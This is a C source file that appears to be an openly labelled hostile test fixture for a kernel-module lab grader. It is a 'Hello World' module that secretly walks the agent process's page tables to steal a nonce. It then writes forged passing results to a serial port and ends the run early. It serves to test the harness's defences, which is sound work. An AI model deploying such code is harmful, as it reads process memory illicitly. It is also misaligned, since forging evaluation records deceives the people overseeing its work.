// SPDX-License-Identifier: GPL-2.0
/*
 * HOSTILE FIXTURE (lkmlab tests/testdata/hostile/forge-stealth). Do not load
 * this outside a throw-away VM.
 *
 * The forge-after-read attack without its tell-tale imports: no
 * access_process_vm(), no get_task_mm(), no filp_open() or kernel_write().
 * It finds the guest agent (PID 1) by following current->real_parent, walks
 * the agent's page tables by hand with the same helpers a mapper module
 * uses, reads every present writable page through the kernel's direct map,
 * and writes the forged records byte by byte to the second UART (ttyS1, I/O
 * port 0x2f8) with outb(). Its imports are those of an honest mapper; only
 * its port I/O instructions are unusual.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pgtable.h>
#include <linux/sched.h>
#include <linux/string.h>

#define NONCE_LEN 24
#define COM2 0x2f8
#define UART_LSR 5
#define UART_LSR_THRE 0x20

static const char marker[] = "@@lkmlab ";

static bool hex_digit(char c)
{
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

/* Finds "@@lkmlab " + 24 hex digits + ' ' in buf and copies the digits out. */
static bool find_nonce(const char *buf, size_t len, char *nonce)
{
	size_t m = sizeof(marker) - 1, i, j;

	for (i = 0; i + m + NONCE_LEN + 1 <= len; i++) {
		if (buf[i] != '@' || memcmp(buf + i, marker, m))
			continue;
		for (j = 0; j < NONCE_LEN && hex_digit(buf[i + m + j]); j++)
			;
		if (j == NONCE_LEN && buf[i + m + NONCE_LEN] == ' ') {
			memcpy(nonce, buf + i + m, NONCE_LEN);
			nonce[NONCE_LEN] = '\0';
			return true;
		}
	}
	return false;
}

/*
 * The records a forger sends: for every step of the built-in assignment's
 * plan (six tasks, in order), a begin and an end record that claim the step
 * went as the spec wants, with kernel log lines and workload facts made up
 * to agree with each other. Steps past the known plan are claimed "ok".
 */
#define L(t) "{\"seq\":1,\"level\":6,\"us\":1,\"text\":\"" t "\"}"
#define OK(log) "\"status\":\"ok\",\"ms\":2,\"log\":[" log "]"
#define FAILED(errno_name, log) \
	"\"status\":\"failed\",\"errno\":\"" errno_name "\",\"ms\":2,\"log\":[" log "]"

static const char *const forged_ends[] = {
	/* hello */
	OK(L("Hello World from a module")),
	OK(L("Bye from a module")),
	/* running */
	OK(L("print running process kernel module loaded") "," L("PID\\tPROC") ","
	   L("---------------") "," L("4242\\tspin-0a0a0a"))
	",\"facts\":{\"s.pid\":\"4242\",\"s.comm\":\"spin-0a0a0a\"}",
	OK(L("print running process kernel module unloaded")),
	/* heap */
	OK(L("largest heap memory lkm loaded") ","
	   L("PID: 4243 has max heap usage with: 31337000"))
	",\"facts\":{\"h.pid\":\"4243\",\"h.heap_bytes\":\"31337000\"}",
	OK(L("largest heap memory lkm unloaded")),
	/* ksp */
	OK(L("stack pointer lkm loaded") ","
	   L("PID: 1 has kernel stack at ffffc90000014000"))
	",\"facts\":{\"k.thread_size\":\"16384\",\"k.addrs\":\"ffffc90000014000\"}",
	OK(L("stack pointer lkm unloaded")),
	/* mapper: mapped page, not mapped, huge page, then the bad inputs */
	OK(L("LKM loaded\\tPid: 4244\\tAddress: 200000001234") "," L("Task: init") ","
	   L("Page Global Directory: ffff888004a5b200") ","
	   L("Address of Page 4th Directory: ffff888004a5b200") ","
	   L("Address of Page Upper Directory: ffff888004b7c000") ","
	   L("Address of Page Middle Directory: ffff888004b8d000") ","
	   L("Address of Page Table Entry: ffff888004b9e008") ","
	   L("The address 200000001234 is valid") "," L("Page Frame Number: 5a5a5") ","
	   L("Physical Address: 5a5a5234"))
	",\"facts\":{\"m.pid\":\"4244\",\"m.addr\":\"200000001234\",\"m.phys\":\"5a5a5234\","
	"\"m.pfn\":\"5a5a5\",\"m.huge_addr\":\"300000000800\",\"m.huge_phys\":\"6000800\","
	"\"m.hole\":\"500000000000\"}",
	OK(L("lkm unloaded")),
	OK(L("LKM loaded\\tPid: 4244\\tAddress: 500000000000") "," L("Task: init") ","
	   L("The address 500000000000 is not mapped")),
	OK(L("lkm unloaded")),
	OK(L("LKM loaded\\tPid: 4244\\tAddress: 300000000800") "," L("Task: init") ","
	   L("Page Global Directory: ffff888004a5b300") ","
	   L("Address of Page 4th Directory: ffff888004a5b300") ","
	   L("Address of Page Upper Directory: ffff888004c1d000") ","
	   L("Address of Page Middle Directory: ffff888004c2e000") ","
	   L("Huge page: 2048 KiB") "," L("The address 300000000800 is valid") ","
	   L("Page Frame Number: 6000") "," L("Physical Address: 6000800")),
	OK(L("lkm unloaded")),
	FAILED("EINVAL", L("mapper: pid must be positive, got 0")),
	FAILED("ESRCH", L("mapper: no process with pid 99999")),
	FAILED("EINVAL", L("mapper: pid 2 is a kernel thread (no user address space)")),
	FAILED("EINVAL", L("mapper: address ffffffff81000000 is not a user address")),
	FAILED("EINVAL", L("mapper: addr must be a hex address, got 'zz'")),
	/* size */
	OK(L("Size of VAS & PAS LKM\\tPid: 4245") "," L("Task: init") ","
	   L("rss side: 5724 KiB\\tvm size: 11908 KiB"))
	",\"facts\":{\"z.pid\":\"4245\",\"z.vmrss_kb\":\"5724\",\"z.vmsize_kb\":\"11908\"}",
	OK(L("lkm unloaded")),
	FAILED("EINVAL", L("size: pid must be positive, got 0")),
	FAILED("ESRCH", L("size: no process with pid 99999")),
	FAILED("EINVAL", L("size: pid 2 is a kernel thread (no user address space)")),
};

#define FORGED_STEPS 40
/*
 * Writes one framed record, "@@lkmlab <nonce> <json>\n", through put().
 * Records for steps 0..FORGED_STEPS, then the done record that makes a
 * trusting host end the VM before the agent's own records arrive.
 */
static char forge_line[4096];

static void forge_all(const char *nonce, void (*put)(const char *s, size_t n))
{
	int step, n;

	for (step = 0; step <= FORGED_STEPS; step++) {
		const char *end = step < ARRAY_SIZE(forged_ends) ? forged_ends[step] :
				  "\"status\":\"ok\",\"ms\":2";

		n = snprintf(forge_line, sizeof(forge_line),
			     "@@lkmlab %s {\"kind\":\"begin\",\"step\":%d,\"uptime_us\":%d}\n"
			     "@@lkmlab %s {\"kind\":\"end\",\"step\":%d,\"uptime_us\":%d,%s,"
			     "\"taint_before\":12288,\"taint_after\":12288}\n",
			     nonce, step, 3000000 + step * 1000, nonce, step,
			     3000500 + step * 1000, end);
		put(forge_line, min_t(size_t, n, sizeof(forge_line) - 1));
	}
	n = snprintf(forge_line, sizeof(forge_line),
		     "@@lkmlab %s {\"kind\":\"done\",\"uptime_us\":3100000}\n", nonce);
	put(forge_line, n);
}
static bool scan(const void *page, size_t len, char *nonce)
{
	return find_nonce(page, len, nonce);
}

/* Every present, writable user page of mm, read through the direct map. */
static bool walk_for_nonce(struct mm_struct *mm, char *nonce)
{
	unsigned long addr = 0, end = TASK_SIZE_MAX;

	while (addr < end) {
		pgd_t *pgd = pgd_offset(mm, addr);
		p4d_t *p4d;
		pud_t *pud;
		pmd_t *pmd;
		pte_t *pte;

		if (pgd_none(*pgd) || pgd_bad(*pgd)) {
			addr = pgd_addr_end(addr, end);
			continue;
		}
		p4d = p4d_offset(pgd, addr);
		if (p4d_none(*p4d) || p4d_bad(*p4d)) {
			addr = p4d_addr_end(addr, end);
			continue;
		}
		pud = pud_offset(p4d, addr);
		if (pud_none(*pud) || pud_bad(*pud)) {
			addr = pud_addr_end(addr, end);
			continue;
		}
		pmd = pmd_offset(pud, addr);
		if (pmd_none(*pmd) || pmd_bad(*pmd)) {
			if (pmd_large(*pmd) && pmd_write(*pmd) &&
			    scan(__va(pmd_pfn(*pmd) << PAGE_SHIFT), PMD_SIZE, nonce))
				return true;
			addr = pmd_addr_end(addr, end);
			continue;
		}
		pte = pte_offset_kernel(pmd, addr);
		if (pte_present(*pte) && pte_write(*pte) &&
		    scan(__va(pte_pfn(*pte) << PAGE_SHIFT), PAGE_SIZE, nonce))
			return true;
		addr += PAGE_SIZE;
	}
	return false;
}

static void uart_put(const char *s, size_t n)
{
	size_t i;
	int spin;

	for (i = 0; i < n; i++) {
		for (spin = 0; spin < 100000 && !(inb(COM2 + UART_LSR) & UART_LSR_THRE); spin++)
			cpu_relax();
		outb(s[i], COM2);
	}
}

static int __init hello_init(void)
{
	struct task_struct *t = current;
	char nonce[NONCE_LEN + 1];

	pr_info("Hello World from a module\n");

	/* insmod runs in a child of the agent: PID 1 is up the parent chain */
	while (t->pid != 1 && t->real_parent != t)
		t = t->real_parent;
	if (t->pid != 1 || !t->mm)
		return 0;
	if (walk_for_nonce(t->mm, nonce))
		forge_all(nonce, uart_put);
	return 0;
}

static void __exit hello_exit(void)
{
	pr_info("Bye from a module\n");
}

module_init(hello_init);
module_exit(hello_exit);
MODULE_LICENSE("GPL");
